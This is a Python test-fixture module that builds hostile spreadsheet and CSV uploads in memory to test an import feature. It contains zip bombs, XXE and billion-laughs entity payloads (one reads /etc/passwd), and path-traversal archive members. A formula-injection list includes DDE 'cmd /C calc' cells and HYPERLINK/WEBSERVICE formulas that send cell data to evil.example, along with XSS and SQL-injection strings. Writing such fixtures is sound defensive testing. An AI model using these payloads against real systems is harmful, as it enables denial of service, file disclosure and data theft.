"""Uploads and cells that mean harm, made here and not kept as files."""

import functools
import io
import struct
import zipfile
import zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
BOOK = (
    f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
LINKS = (
    f'<?xml version="1.0"?><Relationships xmlns="{RELS}">'
    f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
ROWS = '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(1, 12))
    + "]>"
)


def cell(words: str, place: str = "A2") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def sheet(rows: str = "", *, head: str = "", root: str = "worksheet") -> str:
    return f'<?xml version="1.0"?>{head}<{root} xmlns="{MAIN}"><sheetData>{ROWS}{rows}</sheetData></{root}>'


def workbook(rows: str = "", *, packing: int = zipfile.ZIP_DEFLATED, **members: str | bytes | None) -> bytes:
    """Return an XLSX file; a member is named with __ for / and _dot_ for a full stop, None leaves it out."""
    parts: dict[str, str | bytes | None] = {
        "[Content_Types].xml": TYPES,
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": LINKS,
        "xl/worksheets/sheet1.xml": sheet(rows or f'<row r="2">{cell("Ana Heron")}</row>'),
    }
    parts |= {name.replace("__", "/").replace("_dot_", "."): content for name, content in members.items()}
    return packed({name: content for name, content in parts.items() if content is not None}, packing=packing)


def packed(members: dict[str, str | bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packing) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def stating(raw: bytes, member: str, size: int) -> bytes:
    """Return the archive with a lie about a member's unpacked size, in both places that state it."""
    name, changed = member.encode(), bytearray(raw)
    for mark, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = changed.find(mark)
        while place >= 0:
            if changed[place + name_at : place + name_at + len(name)] == name:
                struct.pack_into("<I", changed, place + size_at, size)
            place = changed.find(mark, place + 1)
    return bytes(changed)


def nested(depth: int) -> bytes:
    """Return an archive in an archive in an archive."""
    inner = workbook()
    for _level in range(depth):
        inner = workbook(xl__embeddings__next_dot_xlsx=inner)
    return inner


def overlapping() -> bytes:
    """Return an archive whose directory names one packed member a hundred times (Fifield, 2019)."""
    raw = bytearray(workbook(xl__kernel_dot_xml=b"\0" * 4_000_000))
    start, end = raw.find(b"PK\x01\x02"), raw.find(b"PK\x05\x06")
    place = raw.rfind(b"PK\x01\x02", 0, end)
    entry = bytes(raw[place:end])
    tail = bytearray(raw[end:])
    count = struct.unpack_from("<H", tail, 8)[0] + 100
    struct.pack_into("<HHI", tail, 8, count, count, end - start + 100 * len(entry))
    return bytes(raw[:end] + entry * 100 + tail)


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


@functools.cache
def files() -> dict[str, bytes]:
    """Return the hostile files by name."""
    many = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 60_000))
    wide = "".join(f'<c r="{letter}2"><v>1</v></c>' for letter in ("A", "KP", "XFD"))
    far = f'<row r="1048576">{cell("x", "A1048576")}</row>'
    font = "<fonts>" + "<font><b/></font>" * 300_000 + "</fonts>"
    styles = f'<?xml version="1.0"?><styleSheet xmlns="{MAIN}">{font}</styleSheet>'
    shared = f'<?xml version="1.0"?><sst xmlns="{MAIN}">' + "<si><t>laugh</t></si>" * 900_000 + "</sst>"
    endless = b"x" * 9_900_000
    good = workbook()
    return {
        # bombs
        "zeros.xlsx": workbook(xl__worksheets__sheet1_dot_xml=b"0" * 100_000_000),
        "zeros_beside.xlsx": workbook(xl__media__image1_dot_png=b"\0" * 120_000_000),
        "many_big.xlsx": workbook(**{f"xl__media__{n}_dot_bin": b"ab" * 2_400_000 for n in range(40)}),
        "many_members.xlsx": workbook(**{f"xl__media__{n}": b"" for n in range(2_000)}),
        "many_rows.xlsx": workbook(many * 2),
        "many_cells.xlsx": workbook("<row>" + "<c><v>1</v></c>" * 900_000 + "</row>"),
        "empty_cells.xlsx": workbook("<row>" + "<c/>" * 2_000_000 + "</row>"),
        "many_strings.xlsx": workbook(xl__sharedStrings_dot_xml=shared),
        "many_styles.xlsx": workbook(xl__styles_dot_xml=styles),
        "nested.xlsx": nested(12),
        "overlapping.xlsx": overlapping(),
        "says_small.xlsx": stating(workbook(many), "xl/worksheets/sheet1.xml", 100),
        "says_huge.xlsx": stating(good, "xl/worksheets/sheet1.xml", 4_000_000_000),
        "long_cell.xlsx": workbook(f'<row r="2">{cell("x" * 9_000_000)}</row>'),
        "deep.xlsx": workbook("<a>" * 300_000 + "</a>" * 300_000),
        "long_name.xlsx": packed({"xl/workbook.xml": BOOK, "x" * 60_000: ""}),
        "long_attribute.xlsx": workbook(f'<row r="2" spans="{"9" * 4_000_000}">{cell("x")}</row>'),
        # entities
        "entities.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(f'<row r="2">{cell("&e;")}</row>', head=ENTITY)
        ),
        "laughs.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(f'<row r="2">{cell("&m;")}</row>', head=LAUGHS)
        ),
        "laughing_strings.xlsx": workbook(
            xl__sharedStrings_dot_xml=f"{LAUGHS}<sst xmlns='{MAIN}'><si><t>&m;</t></si></sst>"
        ),
        "laughing_book.xlsx": workbook(xl__workbook_dot_xml=LAUGHS + "<workbook>&m;</workbook>"),
        "laughing_styles.xlsx": workbook(xl__styles_dot_xml=LAUGHS + "<styleSheet>&m;</styleSheet>"),
        "outside_types.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(head='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">')
        ),
        "parameters.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(
                head='<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>'
            )
        ),
        "entities_utf16.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(head=ENTITY)
            .replace("?>", ' encoding="utf-16"?>', 1)
            .encode("utf-16")
        ),
        "unknown_encoding.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet().replace("?>", ' encoding="utf-7"?>', 1)
        ),
        # places
        "far_row.xlsx": workbook(far),
        "no_such_row.xlsx": workbook(f'<row r="99999999999">{cell("x")}</row>'),
        "negative_row.xlsx": workbook(f'<row r="-7">{cell("x")}</row>'),
        "far_column.xlsx": workbook(f'<row r="2">{wide}</row>'),
        "no_such_column.xlsx": workbook('<row r="2"><c r="ZZZZZZZZ2"><v>1</v></c></row>'),
        "no_coordinate.xlsx": workbook('<row r="2"><c r="!"><v>1</v></c></row>'),
        "says_enormous.xlsx": workbook(
            xl__worksheets__sheet1_dot_xml=sheet(f'<row r="2">{cell("x")}</row>').replace(
                "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'
            )
        ),
        "no_such_string.xlsx": workbook('<row r="2"><c r="A2" t="s"><v>7</v></c></row>'),
        "negative_string.xlsx": workbook('<row r="2"><c r="A2" t="s"><v>-1</v></c></row>'),
        "no_number.xlsx": workbook('<row r="2"><c r="A2"><v>x</v></c></row>'),
        "long_number.xlsx": workbook(f'<row r="2"><c r="A2"><v>{"9" * 100_000}</v></c></row>'),
        "infinite.xlsx": workbook('<row r="2"><c r="A2"><v>1e999</v></c></row>'),
        "no_such_style.xlsx": workbook('<row r="2"><c r="A2" s="1e9"><v>1</v></c></row>'),
        "no_such_day.xlsx": workbook(
            '<row r="2"><c r="A2" s="0"><v>1e12</v></c></row>',
            xl__styles_dot_xml=f"<styleSheet xmlns='{MAIN}'><cellXfs><xf numFmtId='14'/></cellXfs>"
            "</styleSheet>",
        ),
        "climbing_target.xlsx": workbook(
            xl___rels__workbook_dot_xml_dot_rels=LINKS.replace("worksheets/", "../../../etc/")
        ),
        "outside_target.xlsx": workbook(
            xl___rels__workbook_dot_xml_dot_rels=LINKS.replace(
                'Target="worksheets/sheet1.xml"', 'TargetMode="External" Target="http://evil.example/s.xml"'
            )
        ),
        "climbing_member.xlsx": packed({"../../tmp/x": "x", "xl/workbook.xml": BOOK}),
        "itself.xlsx": workbook(
            xl___rels__workbook_dot_xml_dot_rels=LINKS.replace("worksheets/sheet1.xml", "workbook.xml")
        ),
        # what runs
        "macros.xlsm": workbook(xl__vbaProject_dot_bin=old_office()),
        "controls.xlsx": workbook(xl__activeX__activeX1_dot_bin=old_office()),
        "old_macros.xlsx": workbook(xl__macrosheets__sheet1_dot_xml=sheet("<f>EXEC()</f>")),
        "embedded.xlsx": workbook(xl__embeddings__oleObject1_dot_bin=old_office()),
        "outside_link.xlsx": workbook(xl__externalLinks__externalLink1_dot_xml="<externalLink/>"),
        "old.xls": old_office(),
        # other things under a false name
        "picture.xlsx": b"\x89PNG\r\n\x1a\n" + b"\0" * 4_000,
        "document.csv": b"%PDF-1.7\n" + b"\0" * 4_000,
        "page.csv": b"<!doctype html><script>alert(1)</script>",
        "drawing.csv": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "program.csv": b"MZ" + bytes(range(256)) * 20,
        "letter.csv": packed({"word/document.xml": "<w/>"}),
        "polyglot.xlsx": b"GIF89a" + good,
        "csv_then_zip.csv": b"Name\nAna Heron\n" + good,
        "zip_then_csv.xlsx": good + b"\nName\nAna Heron\n",
        "packed.csv": zlib.compress(b"Name\nAna Heron\n"),
        "gzip.csv": b"\x1f\x8b\x08" + b"\0" * 500,
        # broken
        "truncated.xlsx": good[: len(good) // 2],
        "truncated_end.xlsx": good[:-4],
        "flipped.xlsx": good[:60] + bytes(255 - one for one in good[60:90]) + good[90:],
        "nothing_in_it.xlsx": packed({}),
        "no_links.xlsx": workbook(xl___rels__workbook_dot_xml_dot_rels=None),
        "no_sheet.xlsx": workbook(xl__worksheets__sheet1_dot_xml=None),
        "not_xml.xlsx": workbook(xl__worksheets__sheet1_dot_xml=b"\xff\xfe\x00 no"),
        "locked.xlsx": good.replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        ),
        "bzip2.xlsx": workbook(packing=zipfile.ZIP_BZIP2),
        "lzma.xlsx": workbook(packing=zipfile.ZIP_LZMA),
        "unknown_packing.xlsx": good.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00"),
        # text
        "nuls.csv": b"Name\n" + b"\0" * 2_000_000,
        "nul_here_and_there.csv": b"Name\nAna\0 Her\0on\n",
        "one_cell.csv": b"Name\n" + endless,
        "one_heading.csv": endless + b"\nx\n",
        "invisible.csv": b"Name\n" + "\u202e\u200b\u2066".encode() * 1_000_000,
        "all_columns.csv": b"Name" + b"," * 9_000_000,
        "all_rows.csv": b"Name\n" + b"x\n" * 4_900_000,
        "all_breaks.csv": b"Name\n" + b"\n" * 9_900_000,
        "all_cells.csv": b"Name" + b",x" * 299 + b"\n" + (b"," * 299 + b"\n") * 30_000,
        "all_quotes.csv": b"Name\n" + b'"' * 9_900_000,
        "open_quotes.csv": b"Name,A,B\n" + b'x,"y,\n' * 40_000,
        "doubled_quotes.csv": b"Name,A\n" + b'"x"",\n' * 40_000,
        "angles.csv": b"Name,E-mail\nAna," + b"<" + b"@" * 60_000 + b"\n",
        "more_angles.csv": b"Name,E-mail\nAna," + b"<a@" * 60_000 + b"\n",
        "addresses.csv": b"Name,E-mail\nAna," + b"a@b.example;" * 60_000 + b"\n",
        "dots.csv": b"Name,E-mail\nAna,a@" + b"a." * 60_000 + b"\n",
        "spaces.csv": b"Name\n" + b" " * 9_000_000 + b"x\n",
        "utf16_half.csv": "Name\nAna".encode("utf-16") + b"\x00",
        "utf32.csv": "Name\nAna\n".encode("utf-32"),
        "surrogates.csv": b"Name\n\xed\xa0\x80\xed\xb0\x80\n",
        "overlong.csv": b"Name\n\xc0\xae\xc0\xae/\xc0\xae\n",
        "bells.csv": b"Name\n" + b"\x07" * 4_000,
        "same_order.csv": b"Order code,Name\n" + b"A,Ana\n" * 5_000,
        "long_order.csv": b"Order code,Name\n" + b"A" * 5_000 + b",Ana\n",
        "separator.csv": b"sep=,\nName\n=1+1\n",
        "too_large.csv": b"Name\n" + b"Ana Heron\n" * 1_050_000,
    }


#: What a cell may hold to be run by the spreadsheet that opens an export, or to look like something else.
CELLS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Ana Heron")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMAGE("http://evil.example/x.png")',
    "=msexcel|'\\..\\..\\calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "=\u200b1+1",
    "%0A=1+1",
    "\\t=1+1",
    "=1+1\x00",
    "\x00=1+1",
    "\x1b]0;title\x07",
    "\u202eeleH anA",
    "Ana\u200dHeron",
    "A" + "\u0301" * 2_000,
    "Ⓐⓝⓐ",
    "аnа",
    "<script>alert(1)</script>",
    "${7*7}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "%s%n%x",
    "Robert'); DROP TABLE registrations;--",
    "\ud7ff\ue000\ufffd",
    "\U000e0041\U000e007f",
    "👩‍👩‍👧‍👦" * 50,
    "z̷̢̛" * 300,
    "1e309",
    "0x1F",
    "#REF!",
    "|calc",
    "--1",
]
